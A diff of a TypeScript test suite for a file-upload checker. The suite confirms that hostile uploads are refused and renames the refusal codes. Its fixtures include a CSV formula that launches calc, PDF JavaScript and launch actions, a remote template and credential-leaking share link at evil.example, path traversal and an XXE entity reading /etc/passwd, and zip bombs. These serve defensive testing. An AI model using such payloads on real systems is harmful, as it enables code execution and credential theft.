@@ -1,3 +1,4 @@
+import type { ResultName } from '@osmp/contract/kit/result-codes.ts'
 import { afterAll, beforeAll, describe, expect, it } from 'vitest'
 import { meetingId } from '../demo/public.ts'
 import { startTestApp, type TestApp, type TestCaller } from '../test-kit/test-kit.ts'
@@ -38,117 +39,152 @@ const bytes = (words: string) => Buffer.from(words, 'latin1')
 type Made = Buffer | (() => Buffer | Promise<Buffer>)
 const made = (content: Made) => (typeof content === 'function' ? content() : content)
 
-describe('kinds that are not what they say: 26019, 26020', () => {
-  it.each<[string, string, string, Made]>([
-    ['html as a picture', '26020', 'a.jpg', bytes(HTML)],
-    ['svg as a picture', '26020', 'a.png', bytes(SVG)],
-    ['svg', '26019', 'a.svg', bytes(SVG)],
-    ['html', '26019', 'a.html', bytes(HTML)],
-    ['a program', '26019', 'a.exe', MZ],
-    ['a program as a picture', '26020', 'a.jpg', MZ],
-    ['a program as a document', '26020', 'a.pdf', MZ],
-    ['a picture, then a program’s ending', '26019', 'scan.jpg.exe', () => photo('jpeg')],
-    ['a GIF that is a script too', '26019', 'a.gif', bytes('GIF89a=1;alert(1)')],
-    ['the same as a picture of ours', '26020', 'a.png', bytes('GIF89a=1;alert(1)')],
-    ['a spreadsheet of formulas as text', '26019', 'a.csv', bytes('=cmd|"/c calc"!A1')],
-    ['a macro document by its own name', '26019', 'a.docm', office('docx')],
-    ['a macro workbook by its own name', '26019', 'a.xlsm', office('xlsx')],
-    ['a shortcut', '26019', 'a.lnk', bytes('L\0\0\0')],
-    ['a zip', '26019', 'a.zip', office('docx')],
-    ['a plain zip as a document', '26020', 'a.docx', bytes('PK\x03\x04 nothing of Word')],
-    ['Word as Excel', '26020', 'a.xlsx', office('docx')],
-    ['a PDF that does not begin as one', '26020', 'a.pdf', bytes(`${HTML}\n%PDF-1.7\n%%EOF`)],
-    ['a PNG as a document', '26020', 'a.pdf', () => photo('png')],
-    ['a PDF as a picture', '26020', 'a.jpg', pdf('x')],
-    ['HEIC, which nobody here can draw anew', '26019', 'a.heic', bytes('\0\0\0\x18ftypheic\0\0\0\0')],
-  ])('%s: %s', async (_name, code, name, content) => {
+describe('kinds that are not what they say: uploadKind, uploadKindMismatch', () => {
+  it.each<[string, ResultName, string, Made]>([
+    ['html as a picture', 'uploadKindMismatch', 'a.jpg', bytes(HTML)],
+    ['svg as a picture', 'uploadKindMismatch', 'a.png', bytes(SVG)],
+    ['svg', 'uploadKind', 'a.svg', bytes(SVG)],
+    ['html', 'uploadKind', 'a.html', bytes(HTML)],
+    ['a program', 'uploadKind', 'a.exe', MZ],
+    ['a program as a picture', 'uploadKindMismatch', 'a.jpg', MZ],
+    ['a program as a document', 'uploadKindMismatch', 'a.pdf', MZ],
+    ['a picture, then a program’s ending', 'uploadKind', 'scan.jpg.exe', () => photo('jpeg')],
+    ['a GIF that is a script too', 'uploadKind', 'a.gif', bytes('GIF89a=1;alert(1)')],
+    ['the same as a picture of ours', 'uploadKindMismatch', 'a.png', bytes('GIF89a=1;alert(1)')],
+    ['a spreadsheet of formulas as text', 'uploadKind', 'a.csv', bytes('=cmd|"/c calc"!A1')],
+    ['a macro document by its own name', 'uploadKind', 'a.docm', office('docx')],
+    ['a macro workbook by its own name', 'uploadKind', 'a.xlsm', office('xlsx')],
+    ['a shortcut', 'uploadKind', 'a.lnk', bytes('L\0\0\0')],
+    ['a zip', 'uploadKind', 'a.zip', office('docx')],
+    ['a plain zip as a document', 'uploadKindMismatch', 'a.docx', bytes('PK\x03\x04 nothing of Word')],
+    ['Word as Excel', 'uploadKindMismatch', 'a.xlsx', office('docx')],
+    ['a PDF that does not begin as one', 'uploadKindMismatch', 'a.pdf', bytes(`${HTML}\n%PDF-1.7\n%%EOF`)],
+    ['a PNG as a document', 'uploadKindMismatch', 'a.pdf', () => photo('png')],
+    ['a PDF as a picture', 'uploadKindMismatch', 'a.jpg', pdf('x')],
+    ['HEIC, which nobody here can draw anew', 'uploadKind', 'a.heic', bytes('\0\0\0\x18ftypheic\0\0\0\0')],
+  ])('%s: %s', async (_name, refusal, name, content) => {
     const file = await made(content)
-    await expectRefusal(app, TABLES, code, () => send({ name, content: file }))
+    await expectRefusal(app, TABLES, refusal, () => send({ name, content: file }))
   })
 })
 
-describe('documents that do more than show themselves: 31100 and on', () => {
+describe('documents that do more than show themselves: uploadMacro, uploadActiveContent and others', () => {
   const bomb = { 'word/media/a.xml': Buffer.alloc(60 * 1024 * 1024) }
-  it.each<[string, string, string, Made]>([
-    ['macros under another ending', '31100', 'a.docx', office('docx', { 'word/vbaProject.bin': text('x') })],
-    ['old Excel macros', '31100', 'a.xlsx', office('xlsx', { 'xl/macrosheets/sheet1.xml': text('<x/>') })],
-    ['a macro type', '31100', 'a.docx', office('docx', { '[Content_Types].xml': text('<Types macroEnabled="x"/>') })],
-    ['a password on Word', '31101', 'a.docx', encryptedOffice],
-    ['a password on the zip', '31101', 'a.xlsx', withDirectory(office('xlsx'), (entry) => entry.writeUInt16LE(1, 8))],
-    ['a password on a PDF', '31101', 'a.pdf', pdfOf('<< >>', '<< /Encrypt 5 0 R >>')],
-    ['a script in a PDF', '31102', 'a.pdf', pdfOf('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>')],
-    ['the same with its name disguised', '31102', 'a.pdf', pdfOf('<< /S /J#61vaScript >>')],
-    ['the same in a packed object', '31102', 'a.pdf', pdfOf(packedObjects('1 0 << /S /JavaScript /JS (x) >>'))],
-    ['a program a PDF starts', '31102', 'a.pdf', pdfOf('<< /S /Launch /F (calc.exe) >>')],
-    ['a file inside a PDF', '31102', 'a.pdf', pdfOf('<< /EmbeddedFiles 2 0 R >>')],
-    ['a form of XFA', '31102', 'a.pdf', pdfOf('<< /AcroForm << /XFA 3 0 R >> >>')],
-    ['a packed PDF object of 40 MB', '31103', 'a.pdf', () => pdfOf(packedObjects(' '.repeat(40 * 1024 * 1024)))],
-    ['an OLE object in Word', '31102', 'a.docx', office('docx', { 'word/embeddings/oleObject1.bin': text('x') })],
-    ['an ActiveX control', '31102', 'a.docx', office('docx', { 'word/activeX/activeX1.xml': text('<x/>') })],
-    ['a program inside', '31102', 'a.pptx', office('pptx', { 'ppt/media/run.exe': MZ })],
+  it.each<[string, ResultName, string, Made]>([
+    ['macros under another ending', 'uploadMacro', 'a.docx', office('docx', { 'word/vbaProject.bin': text('x') })],
+    ['old Excel macros', 'uploadMacro', 'a.xlsx', office('xlsx', { 'xl/macrosheets/sheet1.xml': text('<x/>') })],
+    [
+      'a macro type',
+      'uploadMacro',
+      'a.docx',
+      office('docx', { '[Content_Types].xml': text('<Types macroEnabled="x"/>') }),
+    ],
+    ['a password on Word', 'uploadEncrypted', 'a.docx', encryptedOffice],
+    [
+      'a password on the zip',
+      'uploadEncrypted',
+      'a.xlsx',
+      withDirectory(office('xlsx'), (entry) => entry.writeUInt16LE(1, 8)),
+    ],
+    ['a password on a PDF', 'uploadEncrypted', 'a.pdf', pdfOf('<< >>', '<< /Encrypt 5 0 R >>')],
+    [
+      'a script in a PDF',
+      'uploadActiveContent',
+      'a.pdf',
+      pdfOf('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'),
+    ],
+    ['the same with its name disguised', 'uploadActiveContent', 'a.pdf', pdfOf('<< /S /J#61vaScript >>')],
+    [
+      'the same in a packed object',
+      'uploadActiveContent',
+      'a.pdf',
+      pdfOf(packedObjects('1 0 << /S /JavaScript /JS (x) >>')),
+    ],
+    ['a program a PDF starts', 'uploadActiveContent', 'a.pdf', pdfOf('<< /S /Launch /F (calc.exe) >>')],
+    ['a file inside a PDF', 'uploadActiveContent', 'a.pdf', pdfOf('<< /EmbeddedFiles 2 0 R >>')],
+    ['a form of XFA', 'uploadActiveContent', 'a.pdf', pdfOf('<< /AcroForm << /XFA 3 0 R >> >>')],
+    [
+      'a packed PDF object of 40 MB',
+      'uploadUnpacksTooLarge',
+      'a.pdf',
+      () => pdfOf(packedObjects(' '.repeat(40 * 1024 * 1024))),
+    ],
+    [
+      'an OLE object in Word',
+      'uploadActiveContent',
+      'a.docx',
+      office('docx', { 'word/embeddings/oleObject1.bin': text('x') }),
+    ],
+    [
+      'an ActiveX control',
+      'uploadActiveContent',
+      'a.docx',
+      office('docx', { 'word/activeX/activeX1.xml': text('<x/>') }),
+    ],
+    ['a program inside', 'uploadActiveContent', 'a.pptx', office('pptx', { 'ppt/media/run.exe': MZ })],
     [
       'a template from elsewhere',
-      '31102',
+      'uploadActiveContent',
       'a.docx',
       office('docx', { 'word/_rels/settings.xml.rels': relations('attachedTemplate', 'https://evil.example/t.dotm') }),
     ],
     [
       'a picture from a share, which gives a password away',
-      '31102',
+      'uploadActiveContent',
       'a.docx',
       office('docx', { 'word/_rels/document.xml.rels': relations('image', '\\\\evil.example\\a.png') }),
     ],
-    ['a zip bomb', '31103', 'a.docx', () => office('docx', bomb)],
+    ['a zip bomb', 'uploadUnpacksTooLarge', 'a.docx', () => office('docx', bomb)],
     [
       'parts that share bytes',
-      '31103',
+      'uploadUnpacksTooLarge',
       'a.docx',
       () => withDirectory(office('docx'), (entry) => entry.writeUInt32LE(900_000, 20)),
     ],
     [
       'five thousand and more parts',
-      '31103',
+      'uploadUnpacksTooLarge',
       'a.docx',
       () => office('docx', Object.fromEntries(Array.from({ length: 5_001 }, (_, at) => [`word/${at}`, text('')]))),
     ],
-    ['a way out of the folder', '31104', 'a.docx', office('docx', { '../../etc/passwd': text('x') })],
-    ['a way from the root', '31104', 'a.docx', office('docx', { '/etc/passwd': text('x') })],
-    ['a Windows way out', '31104', 'a.docx', office('docx', { '..\\run.txt': text('x') })],
+    ['a way out of the folder', 'uploadForeignContent', 'a.docx', office('docx', { '../../etc/passwd': text('x') })],
+    ['a way from the root', 'uploadForeignContent', 'a.docx', office('docx', { '/etc/passwd': text('x') })],
+    ['a Windows way out', 'uploadForeignContent', 'a.docx', office('docx', { '..\\run.txt': text('x') })],
     [
       'a link instead of a file',
-      '31104',
+      'uploadForeignContent',
       'a.docx',
       withDirectory(office('docx'), (entry) => entry.writeUInt32LE(0xa1ff_0000, 38)),
     ],
     [
       'an outer entity',
-      '31104',
+      'uploadForeignContent',
       'a.docx',
       office('docx', { 'word/document.xml': text('<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>') }),
     ],
     [
       'a billion laughs in UTF-16',
-      '31104',
+      'uploadForeignContent',
       'a.xlsx',
       office('xlsx', { 'xl/workbook.xml': Buffer.from('\ufeff<!DOCTYPE l [<!ENTITY l "ha">]><l/>', 'utf16le') }),
     ],
-    ['another file behind the zip', '31104', 'a.docx', Buffer.concat([office('docx'), bytes(HTML)])],
-    ['another file behind the PDF', '31104', 'a.pdf', Buffer.concat([pdfOf('<< >>'), office('docx')])],
-    ['a page inside the PDF', '31104', 'a.pdf', pdfOf(`<< >> ${HTML}`)],
-    ['the mark of a virus in a PDF', '31105', 'a.pdf', () => pdf(virusMark())],
+    ['another file behind the zip', 'uploadForeignContent', 'a.docx', Buffer.concat([office('docx'), bytes(HTML)])],
+    ['another file behind the PDF', 'uploadForeignContent', 'a.pdf', Buffer.concat([pdfOf('<< >>'), office('docx')])],
+    ['a page inside the PDF', 'uploadForeignContent', 'a.pdf', pdfOf(`<< >> ${HTML}`)],
+    ['the mark of a virus in a PDF', 'uploadMalware', 'a.pdf', () => pdf(virusMark())],
     [
       'the mark of a virus behind a picture',
-      '31105',
+      'uploadMalware',
       'a.jpg',
       async () => Buffer.concat([await photo('jpeg'), bytes(virusMark())]),
     ],
-    ['four thousand million pixels', '31106', 'a.png', hugePng(65_500, 65_500)],
-    ['a picture cut off', '26052', 'a.jpg', async () => (await noise()).subarray(0, 9_000)],
-    ['a PDF cut off', '26052', 'a.pdf', bytes('%PDF-1.7\n1 0 obj\n<<')],
-    ['a zip cut off', '26052', 'a.docx', office('docx').subarray(0, -30)],
-  ])('%s: %s', async (_name, code, name, content) => {
+    ['four thousand million pixels', 'uploadTooManyPixels', 'a.png', hugePng(65_500, 65_500)],
+    ['a picture cut off', 'fileDamaged', 'a.jpg', async () => (await noise()).subarray(0, 9_000)],
+    ['a PDF cut off', 'fileDamaged', 'a.pdf', bytes('%PDF-1.7\n1 0 obj\n<<')],
+    ['a zip cut off', 'fileDamaged', 'a.docx', office('docx').subarray(0, -30)],
+  ])('%s: %s', async (_name, refusal, name, content) => {
     const file = await made(content)
-    await expectRefusal(app, TABLES, code, () => send({ name, content: file }))
+    await expectRefusal(app, TABLES, refusal, () => send({ name, content: file }))
   })
 })
 
@@ -169,15 +205,15 @@ describe('names', () => {
     const { data, msg } = await send({ name: 'x.pdf', fileName: name, content: pdf(`name ${serial}`) })
     expect([msg, data[0]?.fileName]).toEqual(['', kept])
   })
-  it.each([
-    ['exe.\u202egpj', '11012'],
-    ['photo.jpg\u0000.html', '11012'],
-    ['photo.jpg.html', '26019'],
-    ['photo.exe .', '26019'],
-    ['   .pdf', '26026'],
-    ['..', '26025'],
-  ])('%j is refused with %s', async (name, code) => {
-    await expectRefusal(app, TABLES, code, () => send({ name, content: pdf('refused') }))
+  it.each<[name: string, refusal: ResultName]>([
+    ['exe.\u202egpj', 'inputCharacters'],
+    ['photo.jpg\u0000.html', 'inputCharacters'],
+    ['photo.jpg.html', 'uploadKind'],
+    ['photo.exe .', 'uploadKind'],
+    ['   .pdf', 'fileNameNoExtension'],
+    ['..', 'fileNameEmpty'],
+  ])('%j is refused with %s', async (name, refusal) => {
+    await expectRefusal(app, TABLES, refusal, () => send({ name, content: pdf('refused') }))
   })
 })
 
@@ -223,7 +259,7 @@ describe('what is kept comes back as a file to save, and runs nowhere', () => {
     const { data: link } = await lin.call('closing', 'getFileUrl', { attachmentId })
     await lin.call('closing', 'deleteClosingFile', { attachmentId })
     const late = await app.app.inject({ method: 'GET', url: link.url, headers: { token: lin.token ?? '' } })
-    expect(late.json()).toMatchObject({ code: '26001' })
+    expect(late.json()).toMatchObject({ name: 'fileMissing' })
   })
 
   it('a link does not open for another person, without a session, or after five minutes', async () => {
@@ -236,9 +272,9 @@ describe('what is kept comes back as a file to save, and runs nowhere', () => {
       url: `${link.url.slice(0, -1)}x`,
       headers: { token: zhou.token ?? '' },
     })
-    expect(foreign.json().code).toBe('26001')
+    expect(foreign.json().name).toBe('fileMissing')
     expect({ ...foreign.json(), requestId: '' }).toEqual({ ...missing.json(), requestId: '' })
     const nobody = await app.app.inject({ method: 'GET', url: link.url })
-    expect(nobody.json()).toMatchObject({ code: '401', data: null })
+    expect(nobody.json()).toMatchObject({ name: 'notSignedIn', data: null })
   })
 })
